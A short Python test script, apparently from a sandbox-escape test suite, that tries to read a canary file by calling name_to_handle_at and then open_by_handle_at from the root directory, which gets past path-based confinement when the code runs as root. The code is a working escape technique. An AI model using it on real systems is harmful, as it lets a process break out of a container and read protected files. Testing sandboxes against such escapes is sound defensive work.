# Opens a file by its handle, past every path check.
# severity: critical
# escape: said, secret
# as: root
import ctypes
import os
import struct

from raw import A, call, escaped, refusable, show, tried

with refusable("handle"):
    handle = ctypes.create_string_buffer(struct.pack("II", 128, 0) + bytes(128))
    mount = ctypes.create_string_buffer(4)
    call("name_to_handle_at", -100, A.canary.encode(), handle, mount, 0)
    escaped("a handle")
    place = os.open("/", os.O_RDONLY)
    show(os.read(call("open_by_handle_at", place, handle, os.O_RDONLY), 100))
tried()
